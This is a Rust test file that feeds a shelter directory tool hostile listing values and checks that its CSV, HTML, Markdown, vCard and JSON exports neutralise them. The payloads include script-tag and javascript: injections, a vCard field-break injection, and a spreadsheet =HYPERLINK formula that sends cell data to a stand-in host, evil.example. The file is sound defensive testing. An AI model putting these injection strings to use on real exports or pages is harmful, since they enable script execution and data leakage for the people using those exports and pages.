//! A directory whose texts pass every check and would still like to be formulas, markup or scripts.

use crate::folder::Folder;
use crate::run::wayhome;
use serde_json::{Value, json};
use tempfile::TempDir;

const MARKUP: &str = "<script>alert(1)</script><img src=x onerror='alert(2)'>\"'&amp; **b** [x](javascript:1) `c` |";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1;\"x\")";
const CARD: &str = "a;b,c\\nEND:VCARD";

fn hostile() -> (TempDir, String) {
    let folder = Folder::good();
    folder.shelter(|l| {
        l["name"] = json!(MARKUP);
        l["organization"] = json!(FORMULA);
        l["summary"] = json!({"en": CARD, "es": FORMULA});
        l["hours"] = json!("+1+1");
        l["address"]["street"] = json!("@SUM(A1:A9)");
        l["website"] = json!("javascript:alert(3)");
        l["phones"] = json!([{"number": "+1-907-555-0142", "label": "-1"}]);
    });
    let mut directory = wayhome_index::read::read(folder.0.path()).0;
    directory.needs[0].name.en = MARKUP.into();
    let temporary = TempDir::new().expect("a temporary folder");
    let path = temporary.path().join("hostile.wayhome");
    std::fs::write(&path, wayhome_index::pack::pack(&directory).expect("a bundle")).expect("a file");
    (temporary, path.to_string_lossy().into_owned())
}

fn sheet(file: &str, format: &str) -> String {
    wayhome(["sheet", "ak-shelter", "--note", "ak-shelter=<b>=1</b>", "--format", format, "--directory", file]).found()
}

#[test]
fn no_cell_is_a_formula() {
    let (_folder, file) = hostile();
    let table = sheet(&file, "csv");
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
    assert_eq!(rows.len(), 1);
    for cell in &rows[0] {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }
    let held = |text: &str| rows[0].iter().any(|cell| cell == text);
    assert!(
        held(&format!("'{FORMULA}")) && held("'+1-907-555-0142") && held("'@SUM(A1:A9)") && held(MARKUP),
        "{table}"
    );
}

#[test]
fn no_text_is_markup() {
    let (_folder, file) = hostile();
    let packet = wayhome(["packet", "--near", "juneau", "--format", "html", "--directory", &file]).found();
    for html in [sheet(&file, "html"), packet] {
        for part in ["<script", "<img", "onerror='", "href=\"javascript", "<b>", "src=\"", "url("] {
            assert!(!html.contains(part), "`{part}` is in:\n{html}");
        }
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && html.contains("default-src 'none'"),
            "{html}"
        );
        let links = html.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next());
        assert!(links.clone().count() > 0);
        for link in links {
            assert!(
                ["tel:", "sms:", "https://", "http://", "mailto:", "#"].iter().any(|kind| link.starts_with(kind)),
                "{link}"
            );
        }
    }
    let markdown = sheet(&file, "markdown");
    assert!(
        markdown.contains("\\<script\\>") && markdown.contains("\\*\\*b\\*\\* \\[x\\](javascript:1)"),
        "{markdown}"
    );
}

#[test]
fn no_card_ends_early() {
    let (_folder, file) = hostile();
    let cards = sheet(&file, "vcard").replace("\r\n ", "");
    assert_eq!(cards.matches("\r\nEND:VCARD").count(), 1, "{cards}");
    assert!(
        cards.contains("a\\;b\\,c\\\\nEND:VCARD") && cards.contains("TEL;TYPE=WORK,VOICE:+1-907-555-0142\r\n"),
        "{cards}"
    );
    let json: Value = serde_json::from_str(&sheet(&file, "json")).expect("JSON");
    assert_eq!(json["results"][0]["name"], MARKUP);
    assert_eq!(json["results"][0]["reach"]["link"], "tel:+19075550142");
}
